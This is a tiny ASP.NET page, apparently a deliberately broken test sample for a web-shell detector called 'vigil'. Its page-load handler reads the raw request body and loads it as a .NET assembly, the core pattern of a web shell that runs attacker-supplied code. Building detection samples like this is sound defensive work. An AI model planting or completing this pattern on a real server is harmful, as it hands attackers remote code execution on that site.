<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	byte[] data = Request.BinaryRead(Request.ContentLength);
	var asm = AppDomain.CurrentDomain.Load(data);
}
</script>
